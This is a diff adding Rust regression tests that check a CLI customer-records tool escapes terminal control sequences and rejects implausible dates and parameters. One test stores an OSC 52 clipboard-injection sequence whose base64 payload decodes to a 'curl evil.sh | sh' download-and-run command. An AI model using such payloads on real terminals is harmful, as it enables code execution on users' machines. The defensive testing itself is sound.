@@ -1,0 +1,291 @@
+//! Regression tests for what a hostile or careless user threw at the CLI (issue 10):
+//! escape sequences in stored text and in arguments, implausible dates and bounds,
+//! an interrupted `demo`, and a policy run that one bad customer must not stop.
+
+mod common;
+
+use chrono::{TimeZone, Utc};
+use common::Env;
+use solocrm_core::{LifecycleStage, StageReason, Store};
+use solocrm_store_sqlite::SqliteStore;
+
+/// ESC, BEL and the one-byte CSI: what a terminal would act on.
+const RAW_CONTROLS: [u8; 2] = [0x1b, 0x07];
+
+#[track_caller]
+fn assert_no_raw_controls(what: &str, text: &str) {
+    assert!(
+        !text.bytes().any(|b| RAW_CONTROLS.contains(&b)),
+        "{what} holds a raw control character: {text:?}"
+    );
+    assert!(!text.contains('\u{9b}'), "{what} holds a raw CSI: {text:?}");
+}
+
+#[test]
+fn stored_text_with_escape_sequences_is_shown_escaped_never_obeyed() {
+    let env = Env::new();
+    env.init();
+    let clipboard = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
+    let clear = "\u{1b}[2J\u{1b}[Hall good\u{9b}31m";
+    env.ok(&[
+        "customer",
+        "add",
+        "Eve Mallory",
+        "--email",
+        "eve@example.com",
+        "--notes",
+        clear,
+    ]);
+    env.ok(&[
+        "interaction",
+        "log",
+        "eve@example.com",
+        clipboard,
+        "--channel",
+        "phone",
+    ]);
+    env.ok(&[
+        "purchase",
+        "add",
+        "eve@example.com",
+        "10",
+        "--description",
+        "line one\nline two\u{1b}[1A",
+    ]);
+    let show = env.ok(&["customer", "show", "eve@example.com"]);
+    assert_no_raw_controls("customer show", &show);
+    assert!(show.contains("\\x1b]52;c;"), "shown escaped: {show}");
+    let list = env.ok(&["purchase", "list"]);
+    assert_no_raw_controls("purchase list", &list);
+    assert!(
+        list.contains("line one\\nline two\\x1b[1A"),
+        "a cell stays on one line: {list}"
+    );
+    // JSON keeps the text exactly; serde_json escapes the controls.
+    let json = env.ok(&["--json", "customer", "show", "eve@example.com"]);
+    assert_no_raw_controls("JSON", &json);
+    assert!(json.contains("\\u001b[2J"), "{json}");
+}
+
+#[test]
+fn errors_that_quote_input_escape_its_controls() {
+    let env = Env::new();
+    env.init();
+    let err = env.fails(&["customer", "show", "x\u{1b}]52;c;aGk=\u{7}"], 1);
+    assert_no_raw_controls("error", &err);
+    assert!(err.contains("\\x1b]52"), "{err}");
+    // A usage error quoting the argument.
+    let err = env.fails(&["customer", "list", "--limit", "\u{1b}[2J9"], 2);
+    assert_no_raw_controls("usage error", &err);
+}
+
+#[test]
+fn a_cause_is_not_repeated_in_the_message() {
+    let env = Env::new();
+    std::fs::write(env.db(), b"this is not a database, just text").expect("write");
+    let err = env.fails(&["customer", "list"], 1);
+    for line in err.lines() {
+        let parts: Vec<&str> = line.split(": ").collect();
+        for (i, a) in parts.iter().enumerate() {
+            for b in &parts[i + 1..] {
+                assert!(a != b || a.len() < 8, "'{a}' repeats in {err}");
+            }
+        }
+    }
+}
+
+#[test]
+fn implausible_dates_are_refused_before_anything_is_written() {
+    let env = Env::new();
+    env.init();
+    env.ok(&["customer", "add", "Ada", "--email", "a@example.com"]);
+    for (args, why) in [
+        (
+            vec![
+                "purchase",
+                "add",
+                "a@example.com",
+                "20",
+                "--at",
+                "0205-03-01",
+            ],
+            "before 1900-01-01",
+        ),
+        (
+            vec![
+                "purchase",
+                "add",
+                "a@example.com",
+                "20",
+                "--at",
+                "0000-01-01",
+            ],
+            "before 1900-01-01",
+        ),
+        (
+            vec![
+                "purchase",
+                "add",
+                "a@example.com",
+                "20",
+                "--at",
+                "2025-06-30T23:59:60Z",
+            ],
+            "leap second",
+        ),
+        (
+            vec![
+                "stage",
+                "set",
+                "a@example.com",
+                "won_back",
+                "--at",
+                "2205-01-01",
+            ],
+            "after 2199-12-31",
+        ),
+        (
+            vec!["stage", "set", "a@example.com", "new", "--at", "2199-01-01"],
+            "in the future",
+        ),
+        (
+            vec!["churn-risk", "--as-of=+262142-12-31"],
+            "after 2199-12-31",
+        ),
+        (vec!["report", "--from", "0001-01-01"], "before 1900-01-01"),
+        (
+            vec!["clv", "--calibration-end", "9999-12-31"],
+            "after 2199-12-31",
+        ),
+    ] {
+        let err = env.fails(&args, 1);
+        assert!(err.contains(why), "{args:?}: {err}");
+    }
+    assert_eq!(env.count("purchases"), 0);
+    let shown = env.json(&["customer", "show", "a@example.com"]);
+    assert_eq!(shown["customer"]["stage"], "prospect", "{shown}");
+    // Historic records are fine.
+    env.ok(&[
+        "purchase",
+        "add",
+        "a@example.com",
+        "20",
+        "--at",
+        "1990-05-01",
+    ]);
+    env.ok(&["report"]);
+    env.ok(&["cohort"]);
+}
+
+#[test]
+fn clv_bounds_its_horizon_and_rates_with_a_message() {
+    let env = Env::new();
+    env.init();
+    let err = env.fails(
+        &[
+            "clv",
+            "--calibration-end",
+            "2026-01-01",
+            "--horizon-months",
+            "4294967295",
+        ],
+        2,
+    );
+    assert!(err.contains("1..=1200"), "{err}");
+    for (flag, value) in [
+        ("--predict", "1e300"),
+        ("--predict", "NaN"),
+        ("--predict", "0"),
+        ("--discount-monthly", "-1"),
+        ("--margin", "2"),
+    ] {
+        let arg = format!("{flag}={value}");
+        let err = env.fails(&["clv", "--calibration-end", "2026-01-01", &arg], 1);
+        assert!(err.contains(flag), "{flag} {value}: {err}");
+    }
+}
+
+#[test]
+fn an_interrupted_demo_leaves_nothing_and_can_be_run_again() {
+    let env = Env::new();
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_solocrm"))
+        .arg("--db")
+        .arg(env.db())
+        .args(["demo", "--customers", "200000"])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("the binary runs");
+    // Let it write for a while, then kill it as a power cut or Ctrl-\ would.
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    child.kill().expect("kill");
+    let _ = child.wait();
+    assert!(
+        !env.db().exists(),
+        "an interrupted demo left a half-built database"
+    );
+    let out = env.ok(&["demo", "--customers", "30"]);
+    assert!(out.contains("solocrm dashboard"), "{out}");
+    assert!(env.count("customers") > 0);
+    let leftovers: Vec<_> = std::fs::read_dir(env.dir.path())
+        .expect("read dir")
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with(".solocrm-demo-") && !n.is_empty())
+        .collect();
+    // The killed run's work directory may remain (nothing can clean up after SIGKILL),
+    // but the finished run removed its own.
+    assert!(leftovers.len() <= 1, "{leftovers:?}");
+}
+
+#[test]
+fn one_customer_that_cannot_move_does_not_stop_the_others() {
+    let env = Env::new();
+    env.init();
+    for (name, email) in [
+        ("Ada", "ada@example.com"),
+        ("Bob", "bob@example.com"),
+        ("Cy", "cy@example.com"),
+    ] {
+        env.ok(&[
+            "customer",
+            "add",
+            name,
+            "--email",
+            email,
+            "--at",
+            "2026-01-02",
+        ]);
+        env.ok(&["purchase", "add", email, "30", "--at", "2026-01-05"]);
+    }
+    // A stage history dated far after today, as an old file or a library user may hold.
+    {
+        let store = SqliteStore::open(env.db()).expect("open");
+        let bob = store
+            .customer_by_email(&solocrm_core::Email::parse("bob@example.com").expect("email"))
+            .expect("query")
+            .expect("bob");
+        store
+            .change_stage(
+                bob.id(),
+                LifecycleStage::Lead,
+                Utc.with_ymd_and_hms(2199, 1, 1, 0, 0, 0).unwrap(),
+                StageReason::Manual { note: None },
+            )
+            .expect("a future-dated move");
+    }
+    let out = env.run(&["stage", "reassess", "--as-of", "2026-02-01", "--apply"]);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    for email in ["ada@example.com", "cy@example.com"] {
+        let shown = env.json(&["customer", "show", email]);
+        assert_ne!(
+            shown["customer"]["stage"], "prospect",
+            "{email} was not moved: {stdout} {stderr}"
+        );
+    }
+    if !out.status.success() {
+        assert!(stdout.contains("NOT MOVED"), "{stdout}");
+        assert!(stderr.contains("could not be recorded"), "{stderr}");
+    }
+}
